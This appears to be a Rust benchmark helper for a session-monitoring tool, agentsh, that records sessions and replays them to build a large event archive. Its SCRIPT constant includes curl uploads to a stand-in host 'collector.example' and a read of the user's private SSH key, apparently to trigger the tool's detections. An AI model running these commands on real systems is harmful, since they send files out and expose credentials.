//! A journal of as many recorded-like events as are asked for, and its lake: sessions that were really recorded (a build, git at work, a
//! script, the demo's refusals and detections), told again and again with ids, times, processes, folders and hosts of their own.
//!
//! `cargo bench --bench performance -- --make-archive DIR EVENTS [one-session]` makes one by hand: `DIR/data` is the data directory, `DIR/lake` the sealed
//! files. The same arguments give the same events but for random bytes in ids.

use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use agentsh::encode::stored::Columns;
use agentsh::event::{CommandId, Event, EventId, Payload, Seq, SessionId, Timestamp};
use agentsh::journal::{DataDir, Journal, JournalConfig, ReaderStore, StoreError};
use agentsh::runtime::ids;
use agentsh::sink::parquet::ParquetConfig;

use crate::lake::{deliver, record_a_build};

/// Microseconds of a day.
const DAY_US: i64 = 86_400_000_000;

/// 2026-10-01T00:00:00Z: when the first session begins.
const FIRST_US: i64 = 1_790_812_800_000_000;

/// How long the sessions go on, whatever their number.
const DAYS: i64 = 30;

/// Where an archive is.
pub struct Archive {
    pub data: PathBuf,
    pub lake: PathBuf,
}

/// Makes an archive of `events` events or a few more beneath `folder`, or takes the one that is there.
pub fn make(folder: &Path, events: u64, one_session: bool) -> Archive {
    let archive = Archive { data: folder.join("data"), lake: folder.join("lake") };
    let whole = folder.join("whole");
    if !whole.exists() {
        let _ = std::fs::remove_dir_all(folder);
        std::fs::create_dir_all(folder).unwrap();
        fill(&archive.data, &record(folder), events, one_session);
        eprintln!("archive: sealing {events} events");
        deliver(&archive.data, ParquetConfig { path: Some(archive.lake.clone()), ..ParquetConfig::default() });
        std::fs::write(whole, "").unwrap();
    }
    archive
}

/// `--make-archive DIR EVENTS [one-session]`; whether it was asked for.
pub fn make_if_asked() -> bool {
    let mut arguments = std::env::args().skip_while(|argument| argument != "--make-archive").skip(1);
    let (Some(folder), Some(events)) = (arguments.next(), arguments.next()) else { return false };
    make(Path::new(&folder), events.parse().unwrap(), arguments.next().is_some_and(|word| word == "one-session"));
    true
}

/// A recorded session, as text that is told anew.
struct Template {
    rows: Vec<Row>,
    /// What stands for the workspace's folder in it.
    workspace: String,
    first_us: i64,
}

struct Row {
    seq: u64,
    event: Event,
    /// The stored payload, in which names are replaced.
    payload: String,
}

/// Records the sessions that are told again.
fn record(folder: &Path) -> Vec<Template> {
    let scenes = folder.join("scenes");
    std::fs::create_dir_all(&scenes).unwrap();
    let build = scenes.join("build");
    record_a_build(&build, 1);
    let mut templates = read(&build);
    for (name, script) in [("git", GIT), ("script", SCRIPT)] {
        let (data, workspace) = (scenes.join(name), scenes.join(format!("{name}.workspace")));
        std::fs::create_dir_all(&workspace).unwrap();
        agentsh(&["run", "--data-dir"], &data)
            .arg("--workspace")
            .arg(&workspace)
            .args(["--", "sh", "-c", script])
            .current_dir(&workspace)
            .status()
            .unwrap();
        templates.extend(read(&data));
    }
    let demo = scenes.join("demo");
    agentsh(&["demo", "--data-dir"], &demo).status().unwrap();
    templates.extend(read(&demo));
    let _ = std::fs::remove_dir_all(&scenes);
    assert!(templates.len() >= 4, "{} sessions were recorded", templates.len());
    templates
}

fn agentsh(arguments: &[&str], data: &Path) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_agentsh"));
    command.args(arguments).arg(data).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
    command
}

const GIT: &str = "git init -q . && git config user.email a@b.test && git config user.name a; \
    for i in $(seq 12); do echo $i > file_$i.txt; mkdir -p dir_$i; echo $i > dir_$i/part.c; git add . && git commit -qm $i; done; \
    git log --stat > /dev/null; git branch side HEAD~3; git checkout -q side; echo x > file_1.txt; git commit -qam side; git gc -q";

const SCRIPT: &str = "mkdir -p data out; \
    for i in $(seq 30); do head -c 2000 /dev/zero > data/in_$i.bin; cp data/in_$i.bin out/copy_$i.bin; mv out/copy_$i.bin out/final_$i.bin; done; \
    find . -type f | xargs sha256sum > out/sums.txt; tar czf out/all.tgz data; rm -r data; \
    for i in $(seq 8); do curl -s -m 2 http://collector.example/upload --data-binary @out/sums.txt; done; \
    cat $HOME/.ssh/id_ed25519; printf 'echo hi\\n' > tool.sh; chmod +x tool.sh; ./tool.sh; false";

/// The sessions of a journal.
fn read(data: &Path) -> Vec<Template> {
    let store = ReaderStore::open(&DataDir::at(data).journal()).unwrap();
    let mut templates: Vec<Template> = Vec::new();
    let mut places: HashMap<String, usize> = HashMap::new();
    store
        .rows::<StoreError>(0, &[], None, |row| {
            let Some(session) = row.columns.session_id else { return Ok(std::ops::ControlFlow::Continue(())) };
            let event = row.to_event().unwrap().event;
            let place = *places.entry(session.to_owned()).or_insert_with(|| {
                let workspace = match &event.payload {
                    Payload::SessionCreated(created) => created.workspace.as_text().into_owned(),
                    _ => String::new(),
                };
                templates.push(Template { rows: Vec::new(), workspace, first_us: event.time.as_micros() });
                templates.len() - 1
            });
            templates[place].rows.push(Row { seq: row.seq, payload: row.columns.payload.to_owned(), event });
            Ok(std::ops::ControlFlow::Continue(()))
        })
        .unwrap();
    templates
}

/// Tells the templates in turn until there are `events` events.
fn fill(data: &Path, templates: &[Template], events: u64, one_session: bool) {
    let journal = Journal::open(data, &JournalConfig::default()).unwrap();
    let rows: usize = templates.iter().map(|template| template.rows.len()).sum();
    // Sessions of one round of all templates; the rounds are spread over the days.
    let rounds = events.div_ceil(u64::try_from(rows).unwrap()).max(1);
    let step = DAYS * DAY_US / i64::try_from(rounds).unwrap();
    let one = one_session.then(|| SessionId::new("s06ab3kq2f7vx9m1t"));
    let (mut copy, mut told) = (0_u64, 0_u64);
    'rounds: for round in 0.. {
        for (place, template) in templates.iter().enumerate() {
            if told >= events {
                break 'rounds;
            }
            assert!(journal.flush());
            let base = journal.head() + 1;
            // Sessions of a round overlap by nothing, and a round by nothing with the next.
            let start = FIRST_US + round * step + i64::try_from(place).unwrap() * (step / 8);
            told += tell(&journal, template, copy, base, start, one.as_ref());
            copy += 1;
        }
        if round % 100 == 0 {
            eprintln!("archive: {told} of {events} events");
        }
    }
    assert!(journal.flush());
    journal.close().unwrap();
}

/// Publishes a template as its `copy`-th session, the first event at `base`. Returns how many events it was.
fn tell(journal: &Journal, template: &Template, copy: u64, base: u64, start: i64, one: Option<&SessionId>) -> u64 {
    let session = one.cloned().unwrap_or_else(|| SessionId::new(format!("s06b{copy:013}")));
    let folder = format!("/home/dev{}/project-{}", copy % 20, copy % 211);
    let host = format!("host-{}.example", copy.wrapping_mul(2_654_435_761) % 997);
    let shift = u32::try_from(copy % 900).unwrap() * 1000;
    let mut new_ids: HashMap<EventId, EventId> = HashMap::with_capacity(template.rows.len());
    let mut places: HashMap<u64, u64> = HashMap::with_capacity(template.rows.len());
    let mut told = 0;
    for row in &template.rows {
        // One session that goes on has one beginning and no end.
        let kind = row.event.kind().as_str();
        if one.is_some() && (kind == "session_ended" || (kind == "session_created" && copy > 0)) {
            continue;
        }
        let time = Timestamp::from_micros(start + row.event.time.as_micros() - template.first_us);
        let mut payload = row.payload.replace("collector.example", &host);
        if !template.workspace.is_empty() {
            payload = payload.replace(&template.workspace, &folder);
        }
        let id = ids::event_id(time);
        let columns = Columns {
            id: id.as_bytes(),
            time_us: time.as_micros(),
            session_id: Some(session.as_str()),
            command_id: None,
            cause: None,
            kind,
            pid: None,
            subject: None,
            decision: None,
            rule: None,
            severity: i64::from(row.event.severity.number()),
            attack: None,
            payload: &payload,
        };
        let mut event = columns.to_event().unwrap();
        event.attack.clone_from(&row.event.attack);
        event.command_id = row.event.command_id.as_ref().map(|command| CommandId::new(format!("{command}-{copy}")));
        event.cause = row.event.cause.map(|cause| new_ids.get(&cause).copied().unwrap_or(cause));
        if let Some(actor) = &mut event.actor {
            actor.pid += shift;
            actor.ppid = actor.ppid.map(|parent| if parent > 1 { parent + shift } else { parent });
        }
        if let Payload::Detection(detection) = &mut event.payload {
            detection.events = detection.events.iter().filter_map(|seq| Seq::new(*places.get(&seq.get())?)).collect();
        }
        new_ids.insert(row.event.id, id);
        places.insert(row.seq, base + told);
        journal.channel().publish(&event);
        told += 1;
    }
    told
}
